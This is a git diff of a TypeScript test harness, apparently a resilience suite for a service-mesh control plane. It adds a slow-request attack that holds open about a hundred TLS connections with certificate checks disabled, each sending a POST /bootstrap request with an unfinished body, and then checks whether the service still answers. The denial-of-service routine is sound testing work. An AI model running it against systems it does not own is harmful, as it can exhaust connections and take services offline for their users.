@@ -1,7 +1,9 @@
 import { connect, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
+import { connect as connectTls } from 'node:tls';
 import type { Attack } from '../attack.ts';
 import { exchange } from '../exchange.ts';
+import { postBootstrap } from '../postBootstrap.ts';
 
 const CONNECTIONS = 400;
 const DROPS = 20;
@@ -25,7 +27,10 @@ export const slow: Attack = {
       const clients = Array.from({ length: CONNECTIONS }, (_, i) => beginner(place, i));
       found.push(...(await drip(clients, (i) => HELLO.subarray(i, i + 1), [`${global}/meshes`, `${zone}/meshes`])));
     }
-    return found;
+    const clients = Array.from({ length: CONNECTIONS / 4 }, (_, i) => slowProxy(ads, i));
+    found.push(...(await drip(clients, () => ' ', [`${zone}/meshes`])));
+    const answered = await postBootstrap(ads, '127.0.0.1', Buffer.from('{}'));
+    return answered === 0 ? [...found, 'after those that dripped, POST /bootstrap was not answered'] : found;
   },
 };
 
@@ -52,6 +57,16 @@ function beginner(place: string, index: number): Socket {
   const { hostname, port } = new URL(place.includes('://') ? place : `tls://${place}`);
   const socket = connect({ port: Number(port), host: hostname, allowHalfOpen: true }).on('error', () => {});
   if (index % 2 === 0) socket.end(HELLO.subarray(0, index % HELLO.length));
+  return socket;
+}
+
+/** A proxy whose bootstrap request never comes to its end; every other one closes its half first. */
+function slowProxy(place: string, index: number): Socket {
+  const { hostname, port } = new URL(`tls://${place}`);
+  const options = { port: Number(port), host: hostname, rejectUnauthorized: false, allowHalfOpen: true };
+  const socket = connectTls(options).on('error', () => {});
+  socket.write('POST /bootstrap HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n{"mesh": "');
+  if (index % 2 === 0) socket.once('secureConnect', () => socket.end());
   return socket;
 }
 
